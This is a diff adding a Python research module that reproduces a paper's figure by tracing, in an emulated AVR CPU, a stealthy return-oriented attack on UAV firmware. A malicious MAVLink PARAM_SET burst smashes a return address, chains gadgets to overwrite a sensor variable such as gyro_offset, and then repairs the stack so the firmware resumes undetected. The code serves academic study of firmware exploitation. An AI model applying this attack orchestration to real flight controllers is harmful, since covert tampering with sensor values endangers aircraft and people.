@@ -1,0 +1,161 @@
+"""Fig. 6 reproduction: stack progression during the stealthy attack.
+
+Steps a victim CPU instruction-by-instruction while a V2 payload executes
+and snapshots the stack at the same seven moments the paper's figure
+shows:
+
+    (i)   clean stack before payload execution
+    (ii)  dirty stack after payload injection (return address smashed)
+    (iii) stack after execution of gadget1 (SP moved into the buffer)
+    (iv)  stack after execution of the payload write
+    (v)   stack before gadget2 executes the SP-address repair
+    (vi)  stack after gadget1 runs again to move to the original location
+    (vii) repaired stack for continued execution
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional
+
+from ..avr.cpu import AvrCpu
+from ..avr.devices import Usart
+from ..avr.trace import StackSnapshot, snapshot_stack
+from ..binfmt.image import FirmwareImage
+from ..errors import AttackError
+from ..uav.sensors import SensorSuite
+from .v2_stealthy import StealthyAttack
+
+_STAGE_LABELS = (
+    "(i) Clean stack before payload execution",
+    "(ii) Dirty stack after payload injection",
+    "(iii) Stack after execution of Gadget1",
+    "(iv) Stack after execution of payload",
+    "(v) Stack before execution of gadget2 for SP address repair",
+    "(vi) Stack after execution of gadget1 again to move to original location",
+    "(vii) Repaired stack for continued execution",
+)
+
+
+@dataclass
+class AttackTrace:
+    """The seven labelled snapshots plus bookkeeping."""
+
+    snapshots: List[StackSnapshot] = field(default_factory=list)
+    instructions_executed: int = 0
+    resumed_cleanly: bool = False
+
+    def render(self) -> str:
+        """Fig. 6-style text output."""
+        parts = []
+        for snap in self.snapshots:
+            parts.append(snap.label)
+            parts.append(snap.hexdump())
+            parts.append("")
+        parts.append(
+            f"resumed cleanly: {self.resumed_cleanly} "
+            f"({self.instructions_executed} instructions traced)"
+        )
+        return "\n".join(parts)
+
+
+def trace_stealthy_attack(
+    image: FirmwareImage,
+    target_variable: str = "gyro_offset",
+    values: bytes = b"\x40\x00\x00",
+    window: int = 24,
+    max_instructions: int = 400_000,
+) -> AttackTrace:
+    """Run a V2 attack under the microscope and capture Fig. 6."""
+    from ..mavlink.messages import PARAM_SET
+    from ..uav.groundstation import MaliciousGroundStation
+    from .chain import Write3
+    from .runtime_facts import variable_address
+
+    attack = StealthyAttack(image)
+    facts = attack.facts
+    builder = attack.builder
+    target = variable_address(image, target_variable)
+    burst = MaliciousGroundStation().exploit_burst(
+        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, values)])
+    )
+
+    cpu = AvrCpu()
+    usart = Usart(cpu)
+    SensorSuite(cpu)
+    cpu.load_program(image.code)
+    cpu.reset()
+
+    trace = AttackTrace()
+    frame_window_base = facts.frame_sp - window + 8
+
+    def snap(stage: int, base: Optional[int] = None) -> None:
+        trace.snapshots.append(
+            snapshot_stack(cpu, _STAGE_LABELS[stage], window=window, base=base)
+        )
+
+    # run until the handler call site once so state is the steady loop state
+    _run_until_pc(cpu, facts.call_site, max_instructions, trace)
+    snap(0, base=frame_window_base)
+
+    # deliver the exploit and run until the smashed return is about to fire:
+    # the first arrival at the stk_move entry
+    usart.feed_bytes(burst)
+    stk_entry = builder.stk.entry
+    _run_until_pc(cpu, stk_entry, max_instructions, trace)
+    snap(1, base=frame_window_base)
+
+    # gadget1 finishes when its ret executes (SP inside the buffer)
+    _run_until_pc(cpu, builder.wm.pop_entry, max_instructions, trace)
+    snap(2)
+
+    # first std bounce = the payload write
+    _run_until_pc(cpu, builder.wm.std_entry, max_instructions, trace)
+    _step_over_stores(cpu, builder)
+    snap(3)
+
+    # before the repair bounces
+    _run_until_pc(cpu, builder.wm.std_entry, max_instructions, trace)
+    snap(4)
+
+    # the closing stk_move hop
+    _run_until_pc(cpu, stk_entry, max_instructions, trace)
+    _run_until_mnemonic_ret(cpu, max_instructions, trace)
+    snap(5, base=frame_window_base)
+
+    # resume: execution continues after the repaired return
+    resume_pc = facts.return_address_word * 2
+    _run_until_pc(cpu, resume_pc, max_instructions, trace)
+    snap(6, base=frame_window_base)
+    trace.resumed_cleanly = cpu.pc_bytes == resume_pc and cpu.data.sp == facts.frame_sp + 3
+    return trace
+
+
+def _run_until_pc(cpu: AvrCpu, pc_bytes: int, budget: int, trace: AttackTrace) -> None:
+    while cpu.pc_bytes != pc_bytes:
+        cpu.step()
+        trace.instructions_executed += 1
+        if trace.instructions_executed > budget:
+            raise AttackError(
+                f"trace never reached 0x{pc_bytes:05x} "
+                f"(stuck near 0x{cpu.pc_bytes:05x})"
+            )
+
+
+def _step_over_stores(cpu: AvrCpu, builder) -> None:
+    for _ in builder.wm.stores:
+        cpu.step()
+
+
+def _run_until_mnemonic_ret(cpu: AvrCpu, budget: int, trace: AttackTrace) -> None:
+    from ..avr.insn import Mnemonic
+
+    steps = 0
+    while True:
+        insn = cpu.step()
+        trace.instructions_executed += 1
+        steps += 1
+        if insn.mnemonic is Mnemonic.RET:
+            return
+        if steps > budget:
+            raise AttackError("no ret reached while closing the attack")
